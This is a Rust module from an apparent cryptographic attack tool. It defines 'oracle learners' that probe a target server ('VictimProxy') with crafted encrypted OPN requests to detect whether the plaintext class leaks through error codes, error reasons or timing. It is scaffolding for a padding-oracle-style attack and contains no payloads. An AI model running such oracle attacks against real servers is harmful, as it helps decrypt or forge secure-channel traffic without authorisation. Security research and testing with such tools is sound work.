//! Strategies that find out how a server leaks the plaintext class and build the matching oracle.

use std::fmt::Debug;

use crypto_bigint::{Encoding, Uint};
use thiserror::Error;
use tracing::debug;

use crate::{
    cipher::FormatError,
    endpoint::{Endpoint, Unsupported},
    oracle::{Oracle, OracleError, VictimProxy},
    report::Report,
    transport::Transport,
    wire::ErrorMessage,
};

pub mod error_code;
pub mod error_reason;
pub mod timing;

pub use error_code::ErrorCodeOracleLearner;
pub use error_reason::SimpleErrorReasonOracleLearner;
pub use timing::TimingOracleLearner;

#[derive(Debug, Error)]
pub enum LearnerError {
    #[error("endpoint cannot be attacked: {0}")]
    UnsupportedConfiguration(#[from] Unsupported),
    #[error("no request for the endpoint: {0}")]
    Request(String),
    #[error(transparent)]
    Format(#[from] FormatError),
    #[error(transparent)]
    Oracle(#[from] OracleError),
}

/// Outcome of a learning run. Unsuccessful runs carry no oracle.
pub struct LearningResult<O> {
    pub oracle: Option<O>,
    pub successful: bool,
    pub report: Report,
}

impl<O> LearningResult<O> {
    pub fn success(oracle: O, report: Report) -> Self {
        Self {
            oracle: Some(oracle),
            successful: true,
            report,
        }
    }

    pub fn failure(report: Report) -> Self {
        Self {
            oracle: None,
            successful: false,
            report,
        }
    }
}

pub trait OracleLearner<const LIMBS: usize> {
    type Oracle: Oracle;

    fn learn(&mut self, endpoint: &Endpoint<LIMBS>) -> Result<LearningResult<Self::Oracle>, LearnerError>;
}

/// Supplies a freshly encrypted, valid OPN request for an endpoint
pub trait RequestSource<const LIMBS: usize> {
    fn open_request(&mut self, endpoint: &Endpoint<LIMBS>) -> Result<Vec<u8>, LearnerError>;
}

impl<const LIMBS: usize, F> RequestSource<LIMBS> for F
where
    F: FnMut(&Endpoint<LIMBS>) -> Result<Vec<u8>, LearnerError>,
{
    fn open_request(&mut self, endpoint: &Endpoint<LIMBS>) -> Result<Vec<u8>, LearnerError> {
        self(endpoint)
    }
}

/// Proxy over a fresh request for the endpoint
pub(crate) fn proxy_for<const LIMBS: usize, T: Transport>(
    endpoint: &Endpoint<LIMBS>,
    requests: &mut impl RequestSource<LIMBS>,
    transport: T,
) -> Result<VictimProxy<LIMBS, T>, LearnerError>
where
    Uint<LIMBS>: Encoding,
{
    endpoint.check_supported()?;
    let request = requests.open_request(endpoint)?;
    Ok(VictimProxy::new(endpoint.public_key, request, transport)?)
}

/// Sends `verifications` plain blocks and returns the part of the answer all of them share.
///
/// None when an answer is no error message or differs from the first one.
pub(crate) fn stable_response<const LIMBS: usize, T: Transport, K: PartialEq + Debug>(
    proxy: &mut VictimProxy<LIMBS, T>,
    verifications: usize,
    mut plain_block: impl FnMut() -> Vec<u8>,
    key: impl Fn(&ErrorMessage) -> K,
) -> Result<Option<K>, LearnerError>
where
    Uint<LIMBS>: Encoding,
{
    let mut first = None;
    for verification in 0..verifications.max(1) {
        let result = proxy.send_encrypted_plain_block(&plain_block())?;
        let Some(error) = result.response.error() else {
            debug!(verification, response = ?result.response, "no error message while learning");
            return Ok(None);
        };

        let value = key(error);
        match &first {
            None => first = Some(value),
            Some(expected) if *expected != value => {
                debug!(verification, ?expected, actual = ?value, "answers differ");
                return Ok(None);
            }
            Some(_) => {}
        }
    }
    Ok(first)
}
